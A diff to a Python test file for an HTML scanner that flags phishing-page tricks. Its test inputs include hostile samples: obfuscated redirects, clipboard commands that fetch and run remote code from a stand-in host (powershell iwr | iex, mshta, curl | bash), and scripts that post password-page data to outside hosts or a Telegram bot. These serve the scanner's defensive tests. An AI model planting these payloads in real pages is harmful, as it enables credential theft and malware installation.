@@ -7,6 +7,7 @@ from typing import TYPE_CHECKING
 
 import pytest
 
+from tests.for_each import for_each
 from uriinspector import scan
 from uriinspector.documents import leaf
 from uriinspector.documents.html.tokens import attribute_value
@@ -30,17 +31,15 @@ def codes(page: str, name: str = "page.html") -> dict[str, str]:
     return {each.code: each.severity for each in reversed(found)}
 
 
-@pytest.mark.parametrize(
+@for_each(
     "code",
-    [
-        f"eval(atob('{CODE}'))",
-        "location=String.fromCharCode(104,116,116,112)",
-        "location='/pot.vqxk//:sptth'.split('').reverse().join('')",
-        "document.location.assign(decodeURIComponent('https%3A%2F%2Fkxqv.top%2F'))",
-        f"window['loc'+'ation']['href']='{THERE}'",
-        f"new Function(atob('{CODE}'))()",
-        f"document.write(unescape('{'%3Cform%3E' * 3}'))",
-    ],
+    f"eval(atob('{CODE}'))",
+    "location=String.fromCharCode(104,116,116,112)",
+    "location='/pot.vqxk//:sptth'.split('').reverse().join('')",
+    "document.location.assign(decodeURIComponent('https%3A%2F%2Fkxqv.top%2F'))",
+    f"window['loc'+'ation']['href']='{THERE}'",
+    f"new Function(atob('{CODE}'))()",
+    f"document.write(unescape('{'%3Cform%3E' * 3}'))",
 )
 def test_a_small_page_that_hides_its_code_says_so(code: str) -> None:
     page = f"<script>{code}</script>"
@@ -48,14 +47,12 @@ def test_a_small_page_that_hides_its_code_says_so(code: str) -> None:
     assert "hidden-code" not in codes(page + PADDING)
 
 
-@pytest.mark.parametrize(
+@for_each(
     "code",
-    [
-        "x = decodeURIComponent(location.hash)",
-        "document.write('<p>hello')",
-        "s = String.fromCharCode(65); n.textContent = s",
-        "list.reverse().forEach(show)",
-    ],
+    "x = decodeURIComponent(location.hash)",
+    "document.write('<p>hello')",
+    "s = String.fromCharCode(65); n.textContent = s",
+    "list.reverse().forEach(show)",
 )
 def test_ordinary_code_hides_nothing(code: str) -> None:
     assert codes(f"<script>{code}</script>") == {}
@@ -72,15 +69,13 @@ def test_a_file_out_of_the_page_is_told() -> None:
         assert "smuggled-file" not in codes(page.replace(piece, "x"))
 
 
-@pytest.mark.parametrize(
-    ("command", "is_told"),
-    [
-        ("powershell -w hidden iwr https://kxqv.top/a | iex", True),
-        ("mshta https://kxqv.top/a", True),
-        ("curl https://kxqv.top/a | bash", True),
-        ("curl https://api.example.org/v1/users", False),
-        ("npm install left-pad", False),
-    ],
+@for_each(
+    "command, is_told",
+    ("powershell -w hidden iwr https://kxqv.top/a | iex", True),
+    ("mshta https://kxqv.top/a", True),
+    ("curl https://kxqv.top/a | bash", True),
+    ("curl https://api.example.org/v1/users", False),
+    ("npm install left-pad", False),
 )
 def test_a_command_in_the_clipboard_is_told(command: str, is_told: bool) -> None:
     page = f"<script>navigator.clipboard.writeText('{command}')</script>"
@@ -93,68 +88,60 @@ def test_an_application_of_html_is_told() -> None:
     assert codes("<p>hta:application") == {}
 
 
-@pytest.mark.parametrize(
-    ("code", "severity"),
-    [
-        (f"fetch('{THERE}',{{method:'POST'}})", "medium"),
-        (f"x.open('POST','{THERE}')", "medium"),
-        (f"document.forms[0].action='{THERE}'", "medium"),
-        (f"$.ajax({{url:'{THERE}'}})", "medium"),
-        ("x='https://api.telegram.org/bot1:A/sendMessage'", "medium"),
-        ("fetch('https://accounts.google.com/x')", None),
-        (f"x='{THERE}'", None),
-        ("fetch('/login')", None),
-    ],
+@for_each(
+    "code, severity",
+    (f"fetch('{THERE}',{{method:'POST'}})", "medium"),
+    (f"x.open('POST','{THERE}')", "medium"),
+    (f"document.forms[0].action='{THERE}'", "medium"),
+    (f"$.ajax({{url:'{THERE}'}})", "medium"),
+    ("x='https://api.telegram.org/bot1:A/sendMessage'", "medium"),
+    ("fetch('https://accounts.google.com/x')", None),
+    (f"x='{THERE}'", None),
+    ("fetch('/login')", None),
 )
 def test_a_script_beside_a_password_can_send_it(code: str, severity: str | None) -> None:
     assert codes(f"{PASSWORD}<script>{code}</script>").get("script-sends") == severity
     assert "script-sends" not in codes(f"<script>{code}</script>")
 
 
-@pytest.mark.parametrize(
-    ("frame", "severity"),
-    [
-        (f"<iframe src={THERE} width=100% height=100%>", "medium"),
-        (f"<iframe src={THERE} style='position:fixed; width: 100vw; height: 100vh'>", "medium"),
-        (f"<frameset><frame src={THERE}>", "medium"),
-        ("<iframe src=https://www.google.com/maps width=100% height=100%>", "low"),
-        (f"<iframe src={THERE} width=300 height=100%>", None),
-        ("<iframe src=/inner width=100% height=100%>", None),
-    ],
+@for_each(
+    "frame, severity",
+    (f"<iframe src={THERE} width=100% height=100%>", "medium"),
+    (f"<iframe src={THERE} style='position:fixed; width: 100vw; height: 100vh'>", "medium"),
+    (f"<frameset><frame src={THERE}>", "medium"),
+    ("<iframe src=https://www.google.com/maps width=100% height=100%>", "low"),
+    (f"<iframe src={THERE} width=300 height=100%>", None),
+    ("<iframe src=/inner width=100% height=100%>", None),
 )
 def test_a_frame_that_fills_the_page(frame: str, severity: str | None) -> None:
     assert codes(frame).get("filling-frame") == severity
     assert "filling-frame" not in codes(frame + PADDING)
 
 
-@pytest.mark.parametrize(
-    ("element", "severity"),
-    [
-        (f"<button onclick=\"location='{THERE}'\">Sign in</button>", "medium"),
-        (f"<a href='#' onclick=\"location.href='{THERE}'\">Sign in</a>", "medium"),
-        (f"<button onclick=\"window.open('{THERE}')\">Help</button>", "info"),
-        (f"<body onload=\"window.open('{THERE}')\">", "medium"),
-        (f"<body onload=\"location='{THERE}'\">", "high"),
-        (f"<img src=x onerror=\"location='{THERE}'\">", "high"),
-        (f"<body onpageshow=\"location='{THERE}'\">", "high"),
-        (f"<input autofocus onfocus=\"location='{THERE}'\">", "high"),
-        (f"<p style='animation:x 1s' onanimationstart=\"location='{THERE}'\">", "high"),
-        (f"<details open ontoggle=\"location='{THERE}'\">", "high"),
-        ("<button onclick=\"location='https://www.google.com/'\">Search</button>", "low"),
-        ("<button onclick=\"location='/next'\">Next</button>", "info"),
-    ],
+@for_each(
+    "element, severity",
+    (f"<button onclick=\"location='{THERE}'\">Sign in</button>", "medium"),
+    (f"<a href='#' onclick=\"location.href='{THERE}'\">Sign in</a>", "medium"),
+    (f"<button onclick=\"window.open('{THERE}')\">Help</button>", "info"),
+    (f"<body onload=\"window.open('{THERE}')\">", "medium"),
+    (f"<body onload=\"location='{THERE}'\">", "high"),
+    (f"<img src=x onerror=\"location='{THERE}'\">", "high"),
+    (f"<body onpageshow=\"location='{THERE}'\">", "high"),
+    (f"<input autofocus onfocus=\"location='{THERE}'\">", "high"),
+    (f"<p style='animation:x 1s' onanimationstart=\"location='{THERE}'\">", "high"),
+    (f"<details open ontoggle=\"location='{THERE}'\">", "high"),
+    ("<button onclick=\"location='https://www.google.com/'\">Search</button>", "low"),
+    ("<button onclick=\"location='/next'\">Next</button>", "info"),
 )
 def test_code_that_leads_away_from_what_names_no_address(element: str, severity: str) -> None:
     assert codes(element)["event-handler"] == severity
 
 
-@pytest.mark.parametrize(
+@for_each(
     "script",
-    [
-        f"<script>location='{THERE}'</script>",
-        f"<script><![CDATA[ if (1 < 2) location='{THERE}' ]]></script>",
-        f"<style>circle {{ fill: url({THERE}) }}</style>",
-    ],
+    f"<script>location='{THERE}'</script>",
+    f"<script><![CDATA[ if (1 < 2) location='{THERE}' ]]></script>",
+    f"<style>circle {{ fill: url({THERE}) }}</style>",
 )
 def test_code_in_a_drawing_is_read(script: str) -> None:
     drawing = f"<svg xmlns='http://www.w3.org/2000/svg'>{script}<a href='/x'/></svg>"
@@ -162,16 +149,14 @@ def test_code_in_a_drawing_is_read(script: str) -> None:
     assert values == [THERE, "/x"]
 
 
-@pytest.mark.parametrize(
-    ("page", "severity"),
-    [
-        (f"<body onload='document.forms[0].submit()'><form action={THERE}>", "medium"),
-        (f"<form id=f action={THERE}></form><script>f.requestSubmit()</script>", "medium"),
-        (f"<form action={THERE}></form>", None),
-        ("<form action=/here></form><script>f.submit()</script>", None),
-        (f"{PASSWORD}<button formaction={THERE}>", "medium"),
-        (f"<button formaction={THERE}>", None),
-    ],
+@for_each(
+    "page, severity",
+    (f"<body onload='document.forms[0].submit()'><form action={THERE}>", "medium"),
+    (f"<form id=f action={THERE}></form><script>f.requestSubmit()</script>", "medium"),
+    (f"<form action={THERE}></form>", None),
+    ("<form action=/here></form><script>f.submit()</script>", None),
+    (f"{PASSWORD}<button formaction={THERE}>", "medium"),
+    (f"<button formaction={THERE}>", None),
 )
 def test_a_form_that_is_sent_elsewhere_from_a_page_of_unknown_origin(
     page: str, severity: str | None
